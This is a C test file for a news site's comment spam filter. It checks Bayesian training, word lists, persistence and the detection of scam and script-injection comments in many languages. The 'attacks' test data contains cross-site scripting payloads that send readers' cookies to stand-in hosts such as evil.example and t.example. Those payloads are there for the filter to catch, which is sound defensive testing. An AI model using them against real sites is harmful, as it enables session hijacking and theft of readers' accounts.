/* test-spam-filter.c
 *
 * Copyright 2026 The Byline developers
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include "byline-core.h"

#include "spam-test-util.h"

static void
train_examples (BylineSpamFilter *filter)
{
  static const char *ham[] = {
    "Thanks for this article, the ferry timetable change affects my commute a lot.",
    "I live near North Quay and the charging station works are very noisy at night.",
    "Good reporting. Will the old diesel boats be sold or scrapped?",
    "The buses in our district are always full in the morning, glad to see new ones.",
    "Could you ask the transit authority about fares for students?",
  };
  static const char *spam[] = {
    "Best online casino bonus, click here http://spam.example/casino now",
    "Cheap pills pharmacy no prescription http://pills.example buy now",
    "Earn money from home, crypto bitcoin investment guaranteed http://coin.example",
    "casino casino casino free spins http://spin.example http://spin.example/2",
    "Buy replica watches cheap http://replica.example best price",
  };

  for (guint i = 0; i < G_N_ELEMENTS (ham); i++)
    byline_spam_filter_train (filter, &(BylineSpamSample) { .content = ham[i], .author_ip = "192.0.2.10" }, FALSE);
  for (guint i = 0; i < G_N_ELEMENTS (spam); i++)
    byline_spam_filter_train (filter, &(BylineSpamSample) {
                                .content = spam[i],
                                .author_ip = "203.0.113.66",
                                .author_email = "bot@spam.example",
                              }, TRUE);
}

static void
test_spam_rules_untrained (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  g_autoptr(BylineSpamVerdict) clean = NULL;
  g_autoptr(BylineSpamVerdict) links = NULL;
  g_autoptr(BylineSpamVerdict) caps = NULL;
  g_autoptr(BylineSpamVerdict) repeated = NULL;

  clean = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "I disagree with the mayor, but the article is fair.",
  });
  g_assert_cmpfloat (clean->score, <, 0.1);
  g_assert_cmpuint (clean->reasons->len, ==, 0);

  links = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "see http://a.example and https://b.example and www.c.example — a casino!",
  });
  g_assert_cmpfloat (links->score, >, 0.8);
  g_assert_true (has_reason (links, "3 links"));
  g_assert_true (has_reason (links, "“casino” is on the suspect list"));
  /* strongest first */
  g_assert_true (strstr (g_ptr_array_index (links->reasons, 0), "links") != NULL);

  caps = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "THIS IS THE BEST OFFER YOU WILL EVER SEE",
  });
  g_assert_true (has_reason (caps, "capitals"));

  repeated = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "nice post", .repeat_count = 4,
  });
  g_assert_true (has_reason (repeated, "same text as 4 other comments"));
  g_assert_cmpfloat (repeated->score, >=, 0.8);
}

static void
test_spam_word_lists (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  g_autoptr(BylineSpamVerdict) banned = NULL;
  g_autoptr(BylineSpamVerdict) inside_word = NULL;
  g_autoptr(BylineSpamVerdict) russian = NULL;
  const char *words[] = { "Scam", NULL };

  byline_spam_filter_set_banned_words (filter, words);
  banned = byline_spam_filter_classify (filter, &(BylineSpamSample) { .content = "what a SCAM." });
  g_assert_cmpfloat (banned->score, >=, 0.99);
  g_assert_true (has_reason (banned, "“Scam” is on the banned list"));

  /* Whole words only: "scampi" is not "scam", "casinos" not "casino". */
  inside_word = byline_spam_filter_classify (filter, &(BylineSpamSample) { .content = "scampi and casinos" });
  g_assert_cmpuint (inside_word->reasons->len, ==, 0);

  russian = byline_spam_filter_classify (filter, &(BylineSpamSample) { .content = "Лучшее КАЗИНО онлайн" });
  g_assert_true (has_reason (russian, "казино"));
}

static void
test_spam_bayes_learns (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  g_autoptr(BylineSpamVerdict) spammy = NULL;
  g_autoptr(BylineSpamVerdict) hammy = NULL;
  const char *none[] = { NULL };

  /* Rules off, so that only what was learnt speaks. Bayes has a say from
   * 10 decisions of each kind: the examples twice. */
  byline_spam_filter_set_suspect_words (filter, none);
  train_examples (filter);
  train_examples (filter);
  g_assert_cmpuint (byline_spam_filter_get_n_spam (filter), ==, 10);
  g_assert_cmpuint (byline_spam_filter_get_n_ham (filter), ==, 10);

  spammy = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "free spins bonus at the best casino, cheap",
  });
  hammy = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "The ferry timetable at North Quay should change for students",
  });
  g_assert_cmpfloat (spammy->score, >, 0.7);
  g_assert_true (has_reason (spammy, "like past spam"));
  g_assert_cmpfloat (hammy->score, <, 0.3);
  g_assert_true (has_reason (hammy, "like approved comments"));
}

/* A small training set must not flag everything: a word seen once in one
 * spam comment is not enough to call a comment likely spam, and "N% like
 * past spam" is no reason while the classifier has seen too little. */
static void
test_spam_small_training (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  const char *none[] = { NULL };

  byline_spam_filter_set_suspect_words (filter, none);
  for (guint i = 0; i < 8; i++)
    {
      g_autofree char *text = g_strdup_printf ("offer number%u rareword%u today", i, i);

      byline_spam_filter_train (filter, &(BylineSpamSample) { .content = text }, TRUE);
    }
  for (guint i = 0; i < 3; i++)
    {
      g_autofree char *text = g_strdup_printf ("the ferry story part%u", i);

      byline_spam_filter_train (filter, &(BylineSpamSample) { .content = text }, FALSE);
    }
  {
    g_autoptr(BylineSpamVerdict) v = byline_spam_filter_classify (filter, &(BylineSpamSample) {
      .content = "Saw rareword1 yesterday",
    });

    g_assert_cmpfloat (v->score, <, 0.5);
    g_assert_false (has_reason (v, "like past spam"));
  }

  /* Enough of both kinds now; that word is still seen once in spam. */
  for (guint i = 3; i < 12; i++)
    {
      g_autofree char *text = g_strdup_printf ("the ferry story part%u", i);

      byline_spam_filter_train (filter, &(BylineSpamSample) { .content = text }, FALSE);
    }
  for (guint i = 8; i < 10; i++)
    byline_spam_filter_train (filter, &(BylineSpamSample) { .content = "offer today" }, TRUE);
  {
    g_autoptr(BylineSpamVerdict) v = byline_spam_filter_classify (filter, &(BylineSpamSample) {
      .content = "Saw rareword1 yesterday",
    });

    g_assert_cmpfloat (v->score, <, 0.5);
  }
}

static void
test_spam_known_sources (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  g_autoptr(BylineSpamVerdict) verdict = NULL;
  g_autoptr(BylineSpamVerdict) after_untrain = NULL;
  BylineSpamSample sample = {
    .content = "hello", .author_ip = "203.0.113.9", .author_email = "Bot@Spam.example",
  };

  byline_spam_filter_train (filter, &sample, TRUE);
  verdict = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "an innocent looking text", .author_ip = "203.0.113.9", .author_email = "bot@spam.example",
  });
  g_assert_true (has_reason (verdict, "IP address was marked as spam"));
  g_assert_true (has_reason (verdict, "e-mail address was marked as spam"));

  /* Approving that author more often than not lifts the suspicion */
  {
    g_autoptr(BylineSpamVerdict) approved = NULL;
    BylineSpamSample good = { .content = "thanks, useful", .author_ip = "203.0.113.9" };

    byline_spam_filter_train (filter, &good, FALSE);
    byline_spam_filter_train (filter, &good, FALSE);
    approved = byline_spam_filter_classify (filter, &(BylineSpamSample) {
      .content = "another comment", .author_ip = "203.0.113.9",
    });
    g_assert_false (has_reason (approved, "IP address was marked as spam"));
    byline_spam_filter_untrain (filter, &good, FALSE);
    byline_spam_filter_untrain (filter, &good, FALSE);
  }

  /* Undo forgets it again */
  byline_spam_filter_untrain (filter, &sample, TRUE);
  g_assert_cmpuint (byline_spam_filter_get_n_spam (filter), ==, 0);
  after_untrain = byline_spam_filter_classify (filter, &(BylineSpamSample) {
    .content = "an innocent looking text", .author_ip = "203.0.113.9",
  });
  g_assert_cmpuint (after_untrain->reasons->len, ==, 0);

  /* An address that names no one (a comment without one, an erased one)
   * makes no other comment suspect. */
  for (guint i = 0; i < 2; i++)
    {
      static const char *const none[] = { "0.0.0.0", "127.0.0.1" };
      g_autoptr(BylineSpamVerdict) other = NULL;
      BylineSpamSample nobody = { .content = "buy now", .author_ip = none[i] };

      byline_spam_filter_train (filter, &nobody, TRUE);
      other = byline_spam_filter_classify (filter, &(BylineSpamSample) {
        .content = "an innocent looking text", .author_ip = none[i],
      });
      g_assert_false (has_reason (other, "IP address was marked as spam"));
    }
}

static void
test_spam_persistence (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  g_autoptr(BylineSpamFilter) restored = NULL;
  g_autoptr(BylineSpamVerdict) a = NULL;
  g_autoptr(BylineSpamVerdict) b = NULL;
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GBytes) junk = NULL;
  g_autoptr(GError) error = NULL;
  BylineSpamSample probe = { .content = "casino bonus for the ferry riders", .author_ip = "203.0.113.66" };
  const char *banned[] = { "spamword", NULL };
  BylineSpamFilter *bad;

  train_examples (filter);
  byline_spam_filter_set_banned_words (filter, banned);
  bytes = byline_spam_filter_to_bytes (filter);
  restored = byline_spam_filter_new_from_bytes (bytes, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (byline_spam_filter_get_n_spam (restored), ==, 5);
  g_assert_cmpstr (byline_spam_filter_get_banned_words (restored)[0], ==, "spamword");

  a = byline_spam_filter_classify (filter, &probe);
  b = byline_spam_filter_classify (restored, &probe);
  g_assert_cmpfloat_with_epsilon (a->score, b->score, 1e-9);
  g_assert_cmpuint (a->reasons->len, ==, b->reasons->len);

  junk = g_bytes_new_static ("\x01\x02not a filter at all\xff", 22);
  bad = byline_spam_filter_new_from_bytes (junk, &error);
  g_assert_null (bad);
  g_assert_error (error, BYLINE_SPAM_FILTER_ERROR, BYLINE_SPAM_FILTER_ERROR_INVALID);
}

/* The lead engineer's spot check after the ninth round, written without
 * looking at the rules: classic spam a new site's editor meets first,
 * and readers. Untrained, 12 of the first 14 were caught and no reader
 * flagged; missed were a spell caster who "brings back lost lovers" and
 * "ganhar dinheiro em casa" with a link (both 0.45). The rules for those
 * (byline-spam-filter-trades.c: spells in more words, money made at home
 * or online in 15 languages) catch them; the last spam here was written
 * after them. */
static void
test_spam_spot_check (void)
{
  static const Comment spam[] = {
    { "Very informative post, thanks! If anyone needs reliable movers in Manhattan check us out.",
      "Best Movers NYC", "info@bestmoversnyc.example", "https://bestmoversnyc.example" },
    { "I really enjoyed reading this. By the way I found a site with free spins every day: sarahslots.example",
      "Sarah", "sarah.k@gmail.example", "https://sarahslots.example" },
    { "I invested $500 with Mr James Wilson and got $8,000 in two weeks. Contact him on WhatsApp +1 555 0100 000",
      "Crypto Expert", "jam@mail.example", NULL },
    { "Buy cheap viagra online without prescription at www.pills-shop.example", "Maria", "maria@mail.example", NULL },
    { "Is your ex gone? Dr Olu brings back lost lovers in 24 hours. Email drolu.spellhome@mail.example",
      "Dr. Olu", "dr.olu@mail.example", NULL },
    { "Hello, I am Kim, 24, looking for a serious man. See my photos at kim-date.example", "Kim", "kim@mail.example",
      NULL },
    { "We can help your website rank #1 on Google. Contact us for a free audit.", "SEO Agency", "seo@agency.example",
      "https://seo-agency.example" },
    { "nice", "casino", "no@mail.example", "https://casino-online.example" },
    { "Earn $350 a day working from home! I did it and you can too. Visit workhome-jobs.example", "Lucy",
      "lucy@mail.example", NULL },
    { "Ótimo artigo! Visite meu site para ganhar dinheiro em casa: ganhedinheiro.example", "Ana", "ana@mail.example",
      NULL },
    { "Toller Artikel, danke! Günstige Kredite ohne Schufa gibt es hier: kredit-sofort.example", "Hans",
      "hans@mail.example", NULL },
    { "Excelente nota. Yo gané 3000 dólares con el señor Pedro, escríbele al WhatsApp +52 55 1234 5678", "Marta",
      "marta@mail.example", NULL },
    { "Отличная статья! Смотрите лучшие ставки на спорт здесь: bet-luchshie.example", "Ivan", "ivan@mail.example",
      NULL },
    { "Tired of your 9 to 5? Learn how to make money online with my free guide at bobsguide.example", "Bob",
      "bob@mail.example", NULL },
  };
  static const Comment genuine[] = {
    { "The council should have published the ferry timetable earlier. My kids missed the boat twice last week.",
      "Tom", "tom@mail.example", NULL },
    { "Interesting, but the figures in paragraph three seem off: the budget was 96 million, not 69.", "Priya",
      "priya@mail.example", NULL },
    { "Why does the article not mention that the ferry contract went to the mayor's cousin? Source: "
      "https://www.portvale.gov.example/contracts/2026", "Reader", "reader@mail.example", NULL },
    { "As a nurse I cannot earn money from home, and the article ignores people like me.", "Nurse",
      "n@mail.example", NULL },
    { "The ONS says more people make money online now: https://www.ons.gov.uk/employment", "Reader2",
      "r2@mail.example", NULL },
    { "Great point about the harbour, I grew up there. Alex", "Alex", "alex@mail.example",
      "https://alex-plumbing.example" },
  };
  guint flagged;
  guint caught = count_set_untrained (spam, G_N_ELEMENTS (spam), genuine, G_N_ELEMENTS (genuine), &flagged);

  g_assert_cmpuint (caught, ==, G_N_ELEMENTS (spam));
  g_assert_cmpuint (flagged, ==, 0);
}

static void
test_spam_hostile_input (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();
  g_autoptr(GString) big = g_string_new (NULL);
  const char *hostile[] = {
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\xff\xfe\xfd invalid \xc3 utf-8 \xe2\x82",
    "\u202Egnp.exe\u202C http://",
    "https://",
    "www.",
    /* Ends that the disguise, contact and messenger rules read past */
    "contact", "contact:", "call +", "whatsapp", "whatsapp: (", "telegram @", "c.i.a.l.i.", "v-",
    "v1", "toll free +1 (", "a.b", "abc.", "@@@", "\xf0\x9d\x90", "𝐄𝐚𝐫𝐧 \xf0",
    "",
  };

  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      BylineSpamSample sample = { .content = hostile[i], .author_url = hostile[i], .author_email = "@" };
      g_autoptr(BylineSpamVerdict) verdict = NULL;

      byline_spam_filter_train (filter, &sample, i % 2);
      verdict = byline_spam_filter_classify (filter, &sample);
      g_assert_cmpfloat (verdict->score, >=, 0.0);
      g_assert_cmpfloat (verdict->score, <=, 1.0);
    }

  for (guint i = 0; i < 60 * 1024 / 16; i++)
    g_string_append (big, "word http://x.y ");
  {
    g_autoptr(BylineSpamVerdict) verdict =
      byline_spam_filter_classify (filter, &(BylineSpamSample) { .content = big->str });
    g_assert_true (has_reason (verdict, "links"));
  }
}

/* Markup that would run in a reader's browser is an attack, not a
 * reader's; markup quoted or pasted by readers is not */
static const Comment attacks[] = {
  { "Nice story <script>document.location='http://evil.example/steal?c='+document.cookie</script> "
    "<img src=x onerror=alert(2)> and <a href=\"javascript:alert(3)\">click here for the timetable</a>",
    "Tim", "tim@example.com", NULL },
  { "great <svg/onload=fetch('//x.example/'+document.cookie)>",
    "a", "a@b.example", NULL },
  { "<a href=javascript:alert(1)>timetable</a>",
    "b", "b@b.example", NULL },
  { "<img src=x onerror=\"this.src='//t.example/?'+document.cookie\">",
    "c", "c@b.example", NULL },
  { "Map <script src=\"https://evil.example/x.js\"></script>",
    "d", "d@b.example", NULL },
};

static const Comment markup_readers[] = {
  { "The hackers put <script> tags into the council's website, according to the report. Scary stuff.",
    "Ann", "ann@gmail.com", NULL },
  { "Here is the report: <a href=\"https://www.portvale.gov.uk/report\">council report</a>",
    "Bo", "bo@gmail.com", NULL },
  { "I work in web security: the attack you describe is called cross-site scripting, where someone "
    "posts javascript: links or onerror handlers. Keep your browser updated.",
    "Cy", "cy@gmail.com", NULL },
  { "Is the onion ferry still running? <b>Important</b> for us on the island.",
    "Di", "di@gmail.com", NULL },
  { "The video of the launch: <iframe src=\"https://www.youtube.com/embed/abc123\"></iframe>",
    "Ed", "ed@gmail.com", NULL },
  { "Our template had <script src=\"app.js\"></script> twice, which broke the page.",
    "Flo", "flo@gmail.com", NULL },
};

static void
test_spam_attack_markup (void)
{
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();

  check_all_caught (attacks, G_N_ELEMENTS (attacks), markup_readers, G_N_ELEMENTS (markup_readers));
  for (guint i = 0; i < G_N_ELEMENTS (attacks); i++)
    {
      g_autoptr(BylineSpamVerdict) v = classify (filter, &attacks[i]);

      g_assert_true (has_reason (v, "would run in a reader"));
    }
}

/* The cheap test the sync makes before scoring a comment again: mostly
 * the story's words in runs of eight, in any markup or case */
static void
test_spam_story_echoed_by (void)
{
  g_autoptr(BylineSpamStory) story =
    byline_spam_story_new ("Harbour to get six electric ferries\n\nThe new vessels, built by a regional shipyard, "
                           "carry 180 passengers each and recharge in eleven minutes at the terminal berths.");
  g_autoptr(BylineSpamStory) empty = byline_spam_story_new ("");

  g_assert_true (byline_spam_story_echoed_by (story, "The new vessels, built by a regional shipyard, carry 180 "
                                                     "passengers each. Interesting!"));
  g_assert_true (byline_spam_story_echoed_by (story, "<p>THE NEW VESSELS, built by a <b>regional</b> shipyard, "
                                                     "carry 180 passengers each</p>"));
  /* seven words in a row are a phrase any two texts share */
  g_assert_false (byline_spam_story_echoed_by (story, "The new vessels, built by a regional yard, look fine."));
  /* a reader who quotes it and says more than the quotation */
  g_assert_false (byline_spam_story_echoed_by (story, "\"The new vessels, built by a regional shipyard, carry 180 "
                                                      "passengers each\" but the island pier still has no charger, "
                                                      "and nobody has said who pays for the cable across the channel."));
  g_assert_false (byline_spam_story_echoed_by (empty, "The new vessels, built by a regional shipyard, carry 180 "
                                                     "passengers each."));
}

/* A charity's or a club's address is known by its ending (".org",
 * ".org.uk"), not by a name under it that starts with "org": a site
 * dressed as a government's at "claim.organise-gov-refund.com" is
 * one, whatever its first word. */
static void
test_spam_org_by_ending (void)
{
  static const struct { const char *host; gboolean dressed; } hosts[] = {
    { "claim.organise-gov-refund.com", TRUE },
    { "www.tax-gov-refund.com", TRUE },
    { "www.millbrook-gov-watch.org", FALSE },
    { "kirkby-gov-watch.org.uk", FALSE },
  };
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();

  for (guint i = 0; i < G_N_ELEMENTS (hosts); i++)
    {
      g_autofree char *content = g_strdup_printf ("Council tax rebate: households in the flood zone can claim "
                                                  "£450 back. Apply before Friday at https://%s/claim",
                                                  hosts[i].host);
      g_autoptr(BylineSpamVerdict) v = byline_spam_filter_classify (filter, &(BylineSpamSample) {
        .content = content, .author_name = "Sam",
      });

      g_test_message ("%s: %.2f", hosts[i].host, v->score);
      g_assert_cmpint (has_reason (v, "dressed as a government"), ==, hosts[i].dressed);
    }
}

/* A residents' association, a tenants' union or a committee of
 * volunteers gives its channel: where neighbours read its news, with no
 * money in it. A channel that sells, or a club that is bait, is still
 * spam whatever it calls itself. */
static void
test_spam_community_channel (void)
{
  static const char * const readers[] = {
    "Our residents' association posts updates on the works every week on Telegram: @momodani_residents. Free to "
    "join, no ads.",
    "Our tenants' union answers questions on the rent rules on Telegram @tenantsunion_lisboa, it's free.",
    "Il comitato Vomero Scende pubblica gli aggiornamenti sui lavori su Telegram: @vomeroscende, gestito da "
    "volontari.",
    "La asociación de vecinos publica los avisos de las obras en Telegram @vecinoslavapies, es gratis.",
    "A associação de moradores avisa tudo no WhatsApp (11) 98765-4321, é só pedir.",
  };
  static const char * const spam[] = {
    "Join our investment committee on Telegram @cryptowhales, earn 30% a month!",
    "The parish priest could not help me, but Dr Okoro the great spell caster brought my husband back, WhatsApp "
    "+234 803 555 0101.",
    "Volunteers wanted for our dating club, hot singles on Telegram @hotosaka",
  };

  assert_readers_and_spam (readers, G_N_ELEMENTS (readers), spam, G_N_ELEMENTS (spam));
}

/* A club of those who share a pastime, a choir or a school's parents
 * give their group's channel as a residents' association does; with
 * money to make in it, or a come-on, it is spam whatever it calls
 * itself. */
static void
test_spam_pastime_club_channel (void)
{
  static const char * const readers[] = {
    "Our photo club walks the new seafront every Sunday at 8am, everyone welcome. Telegram: @nikis_photowalks",
    "We are a choir of retired teachers; the rehearsal schedule is on our Telegram @coro_vomero",
    "WhatsApp group for parents of the school on this street: message Anna on WhatsApp 0722 555 123 to be added.",
    "Il nostro coro di pensionati prova ogni martedì, gli orari sono sul nostro Telegram @coro_vomero.",
    "La chorale du quartier répète le jeudi soir, tout le monde est bienvenu : WhatsApp 06 12 34 56 78.",
    "Our cycling club rides the new lane every Sunday at 7am, the route is on our Telegram @cyclists_west.",
  };
  static const char * const spam[] = {
    "Join our book club on Telegram @vip_signals_club and earn 300 USDT daily with our mentor.",
    "Our photo club members make good money selling prints online, message our manager on WhatsApp "
    "+1 555 201 7788.",
    "Lonely? Our choir of beautiful single ladies is waiting for you, Telegram @hotladies_choir",
    "PTA mums are making 40k a month from home with this app, message me on WhatsApp +234 803 555 0101",
  };

  assert_readers_and_spam (readers, G_N_ELEMENTS (readers), spam, G_N_ELEMENTS (spam));
}

/* A rotating savings club's collector gives her number as a residents'
 * association gives its channel: each member pays the same sum and
 * takes the pot in turn. A club that multiplies the money, or a lender
 * who offers a loan before one's turn, is spam whatever it calls itself. */
static void
test_spam_savings_club (void)
{
  static const char * const readers[] = {
    "Our market women's tontine meets every Saturday after the market closes: 5,000 CFA a week each, 20 members, "
    "and each week one of us takes the pot by a draw done in front of everyone. New members must come to a "
    "meeting first. Call or WhatsApp me, Awa, on +221 77 512 34 09.",
    "Iqqubni keenya torbanitti birrii 500 walitti qaba, maqaan baafamu walga'ii Sanbataa irratti ifatti baafama. "
    "Namni haaraa seenuu barbaadu dura walga'iitti dhufee nu haa argu, WhatsApp 0916 42 87 05.",
    "Nuestra junta de vecinos hace una tanda: cada quien pone 500 pesos por quincena y cada quincena le toca a "
    "uno, por sorteo en la reunión. Si quieren entrar, mándenme WhatsApp al 55 3412 8890, pero primero vengan "
    "a la reunión del domingo.",
    "Our chama of fifteen mama mbogas contributes 1,000 shillings every week and each member gets the pot in "
    "turn. We meet Sunday after church. Anyone displaced by the works who wants to join can WhatsApp me on "
    "0722 345 678.",
    "Ми з сусідками маємо касу взаємодопомоги: кожна дає 500 гривень на місяць, і щомісяця одна з нас отримує "
    "всю суму за чергою. Хто хоче приєднатися, пишіть мені у Viber +380 67 123 45 67, але спершу приходьте на "
    "зустріч.",
  };
  static const char * const spam[] = {
    "Waiting for your turn in the tanda? Don't wait! Quick loans from 5,000 to 50,000 pesos in 10 minutes, no "
    "paperwork, no bureau check. WhatsApp 55 9123 4567 now.",
    "Tired of waiting for your turn in the susu? Mama Ada the spiritual herbalist brings money, love and luck in "
    "3 days, 100% guaranteed results. WhatsApp +234 803 123 4567.",
    "Join my chama group, every member gets the pot in turn and a bonus each week from our forex trading team. "
    "WhatsApp 0712 345 678.",
    "Вступайте в нашу касу взаємодопомоги: виплати по черзі, без довідок, гроші на картку за 10 хвилин! Пишіть "
    "у Viber +380 67 765 43 21.",
    "Arisan ibu-ibu tiap bulan dikocok, yang belum dapat giliran bisa pinjam dulu ke kami, cair 10 menit tanpa "
    "jaminan. WA 0812 9876 5432.",
  };

  assert_readers_and_spam (readers, G_N_ELEMENTS (readers), spam, G_N_ELEMENTS (spam));
}

/* Money said to multiply within days is a pyramid's promise, its second
 * sum often without the currency ("becomes 75,000 in 15 days"); a rent
 * or a price that rises as fast is a reader's complaint, not money put
 * in. */
static void
test_spam_money_multiplied (void)
{
  static const char * const readers[] = {
    "Our rent was 500 euros a few years ago and will be 1,100 euros in 6 months if this goes on. The tenants' "
    "union meets on Thursday, call 020 7946 0000.",
    "Le loyer de mon studio était de 400 euros, il passera à 950 euros dans 6 mois avec les travaux. Le comité "
    "de locataires répond au 01 23 45 67 89.",
    "El alquiler del local pasó de $300 a $750 en 8 meses desde que anunciaron la obra. Los comerciantes nos "
    "reunimos el lunes, escríbanme al 55 1234 5678.",
  };
  static const char * const spam[] = {
    "Our tontine pays each member in turn, but with our investment plan your 25,000 FCFA becomes 75,000 in 15 "
    "days! Join the WhatsApp group now: chat.whatsapp.com/TontineGold",
    "Put in 100 euros and it grows to 900 in 3 weeks, message me on WhatsApp +33 6 12 34 56 78",
    "Con nuestro club tus $500 se convierten en 1.500 en 10 días. Únete ya: t.me/clubdoradomx",
  };

  assert_readers_and_spam (readers, G_N_ELEMENTS (readers), spam, G_N_ELEMENTS (spam));
}

/* A side job (副業, 兼职, 부업) named by a reader is no advert: one is
 * with what it earns or whom it wants */
static void
test_spam_side_job_mentioned (void)
{
  static const char * const readers[] = {
    "商店街の再建、楽しみです。うちの八百屋は副業で始めた妻の漬物も置いています。営業時間のお問い合わせは店の電話 "
    "06-6711-2345 まで。",
    "副業で写真を撮っています。桃谷の古い写真を集めているので、お持ちの方は商店会事務所 06-6712-0000 にご連絡ください。",
  };
  static const char * const spam[] = {
    "副業で月30万円稼げます！詳しくはLINE @fukugyo77 まで",
    "副業に興味ある方、LINE @side_job_jp でご連絡ください",
    "兼职日结，每天轻松赚500元，加微信 abc12345",
    "부업으로 월 300만원 수익, 카톡 ID money77",
  };

  assert_readers_and_spam (readers, G_N_ELEMENTS (readers), spam, G_N_ELEMENTS (spam));
}

/* A link's host ends where the sentence's punctuation starts: the
 * reason names the host itself, and the rules read its real ending
 * (".live", not ".live,") */
static void
test_spam_host_before_punctuation (void)
{
  static const struct { const char *content; const char *reason; } cases[] = {
    { "Great article! If anyone needs an electrician, check out https://cheap-electricians-usa.com, best prices.",
      "links to cheap-electricians-usa.com, which looks like a shop" },
    { "Great article! Shoes at https://cheap-shoes.shop. Visit now!", "links to cheap-shoes.shop, which looks" },
    { "Best shoes: https://cheap-shoes.shop! Visit now!", "links to cheap-shoes.shop, which looks" },
    { "Cheap hotels at booking.com-napoli-ofertas.live, best prices in Naples!",
      "a sale at booking.com-napoli-ofertas.live, an address" },
  };
  g_autoptr(BylineSpamFilter) filter = byline_spam_filter_new ();

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    {
      g_autoptr(BylineSpamVerdict) v = byline_spam_filter_classify (filter, &(BylineSpamSample) {
        .content = cases[i].content, .author_name = "Ana Reyes", .author_email = "ana.reyes@example.com",
      });

      g_test_message ("%.2f: %s", v->score, cases[i].content);
      g_assert_true (has_reason (v, cases[i].reason));
      g_assert_false (has_reason (v, ",,"));
      g_assert_false (has_reason (v, ".,"));
      g_assert_false (has_reason (v, "!,"));
    }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, G_TEST_OPTION_ISOLATE_DIRS, NULL);

  g_test_add_func ("/spam/rules-untrained", test_spam_rules_untrained);
  g_test_add_func ("/spam/small-training", test_spam_small_training);
  g_test_add_func ("/spam/word-lists", test_spam_word_lists);
  g_test_add_func ("/spam/bayes-learns", test_spam_bayes_learns);
  g_test_add_func ("/spam/known-sources", test_spam_known_sources);
  g_test_add_func ("/spam/persistence", test_spam_persistence);
  g_test_add_func ("/spam/spot-check", test_spam_spot_check);
  g_test_add_func ("/spam/hostile-input", test_spam_hostile_input);
  g_test_add_func ("/spam/attack-markup", test_spam_attack_markup);
  g_test_add_func ("/spam/story-echoed-by", test_spam_story_echoed_by);
  g_test_add_func ("/spam/org-by-ending", test_spam_org_by_ending);
  g_test_add_func ("/spam/host-before-punctuation", test_spam_host_before_punctuation);
  g_test_add_func ("/spam/community-channel", test_spam_community_channel);
  g_test_add_func ("/spam/pastime-club-channel", test_spam_pastime_club_channel);
  g_test_add_func ("/spam/savings-club", test_spam_savings_club);
  g_test_add_func ("/spam/money-multiplied", test_spam_money_multiplied);
  g_test_add_func ("/spam/side-job-mentioned", test_spam_side_job_mentioned);

  return g_test_run ();
}
